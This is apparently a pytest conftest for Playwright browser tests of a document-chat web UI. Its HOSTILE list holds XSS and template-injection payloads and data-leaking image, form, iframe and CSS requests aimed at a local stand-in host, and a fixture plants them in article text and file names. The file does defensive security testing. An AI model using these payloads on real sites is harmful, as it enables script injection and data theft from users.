"""A real chat over a real index, and a real browser to read it with."""

import os
import shutil
import socket
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from threading import Thread
from typing import Any

import pytest
import uvicorn
from playwright.sync_api import Browser, BrowserContext, Page, sync_playwright

from ibid.library import Library
from ibid.settings import Settings
from ibid.testing import HashEmbedder
from ibid.ui import create_app

CHROMIUM = Path("/usr/bin/chromium")
FLAGS = (
    "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run "
    "--disable-background-networking --disable-component-update --disable-sync"
).split()
SEEDS = Path(__file__).parents[2] / "seeds"
QUESTION = "what challenges are cited for AI drug discovery?"
HOSTILE = (
    "<script>window.hurt=1</script>",
    "<img src=x onerror=window.hurt=1>",
    "<img src='http://127.0.0.2:9/leak.png'>",
    "![pixel](http://127.0.0.2:9/leak.png?q=secret)",
    "[click](javascript:window.hurt=1)",
    '"><svg onload=window.hurt=1>',
    "${window.hurt=1}",
    "{{constructor.constructor('window.hurt=1')()}}",
    "<form action='http://127.0.0.2:9/'><button>send</button></form>",
    "<iframe src='http://127.0.0.2:9/'></iframe>",
    "<style>@import 'http://127.0.0.2:9/x.css'; body{display:none}</style>",
    "`window.hurt=1`",
)


def pytest_collection_modifyitems(items: list[pytest.Item]) -> None:
    """Mark what drives the browser, and be lenient about what its libraries deprecate."""
    here = Path(__file__).parent
    for item in items:
        if here in item.path.parents:
            item.add_marker(pytest.mark.browser)
            item.add_marker(pytest.mark.filterwarnings("ignore::DeprecationWarning"))
            if not CHROMIUM.exists():
                item.add_marker(pytest.mark.skip(reason=f"no Chromium at {CHROMIUM}"))


@dataclass
class Visit:
    """A page, and everything that it asked for and complained of."""

    page: Page
    address: str
    requests: list[str] = field(default_factory=list)
    complaints: list[str] = field(default_factory=list)

    def open(self, query: str = "", wait: str = ".welcome") -> "Visit":
        self.page.goto(self.address + query)
        self.page.wait_for_selector(wait)
        return self

    def ask(self, question: str = QUESTION) -> None:
        self.type(question)
        self.page.wait_for_selector("[data-state=done]:last-child")

    def type(self, question: str) -> None:
        self.page.fill("#question textarea", question)
        self.page.keyboard.press("Enter")

    @property
    def elsewhere(self) -> list[str]:
        local = (self.address, "data:", "blob:")
        return [url for url in self.requests if not url.startswith(local)]


@contextmanager
def serving(library: Library) -> Iterator[str]:
    """Serve a chat on a free port for as long as the block runs."""
    listening = socket.create_server(("127.0.0.1", 0))
    config = uvicorn.Config(create_app(library), log_level="error", timeout_graceful_shutdown=1)
    server = uvicorn.Server(config)
    thread = Thread(target=server.run, kwargs={"sockets": [listening]}, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{listening.getsockname()[1]}/"
    finally:
        server.should_exit = True
        thread.join(10)
        listening.close()


def open_library(index: Path, folder: Path = SEEDS, **parts: Any) -> Library:
    return Library.open(folder, index, Settings(model="none"), **parts)


@pytest.fixture(scope="session")
def index(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The index of the seeds, built once with the real model."""
    ready = os.environ.get("IBID_TEST_INDEX")
    folder = Path(ready) if ready else tmp_path_factory.mktemp("index")
    open_library(folder).build()
    return folder


@pytest.fixture(scope="session")
def library(index: Path) -> Library:
    return open_library(index)


@pytest.fixture(scope="session")
def chat(library: Library) -> Iterator[str]:
    """The address of a chat over the seeds that quotes, without a model."""
    with serving(library) as address:
        yield address


@pytest.fixture(scope="session")
def hostile_library(tmp_path_factory: pytest.TempPathFactory) -> Library:
    """Articles that attack with their text, title, headings and file names."""
    folder = tmp_path_factory.mktemp("hostile")
    for number, attack in enumerate(HOSTILE):
        title = attack.replace('"', "'")
        text = (
            f'---\ntitle: "{title}"\nauthor: "{title}"\n---\n\n## Dragons {attack}\n\n'
            f"Dragons number {number} breathe fire {attack} over the village. {attack}\n\n"
            f"- A list says {attack} too.\n\n> So does a quote {attack} here.\n"
        )
        (folder / f"{number} <img src=x onerror=hurt=1> ${{x}}.md").write_text(text, "utf-8")
    library = open_library(tmp_path_factory.mktemp("index"), folder, embedder=HashEmbedder())
    library.build()
    return library


@pytest.fixture(scope="session")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield launched
        launched.close()


@pytest.fixture
def visit(browser: Browser) -> Iterator[Callable[..., Visit]]:
    """Open a fresh page on an address; what it asks for and complains of is noted."""
    contexts: list[BrowserContext] = []

    def start(address: str, **options: Any) -> Visit:
        context = browser.new_context(**{"viewport": {"width": 1360, "height": 860}} | options)
        context.set_default_timeout(20_000)
        contexts.append(context)
        seen = Visit(context.new_page(), address)
        seen.page.on("request", lambda request: seen.requests.append(request.url))
        seen.page.on("pageerror", lambda error: seen.complaints.append(str(error)))
        seen.page.on(
            "console",
            lambda said: said.type in ("error", "warning") and seen.complaints.append(said.text),
        )
        return seen

    yield start
    for context in contexts:
        context.close()


@pytest.fixture
def copy_of_index(index: Path, tmp_path: Path) -> Path:
    """An index next to a copy of its articles, to be changed by a test."""
    shutil.copytree(SEEDS, tmp_path / "seeds")
    shutil.copytree(index, tmp_path / "index")
    return tmp_path
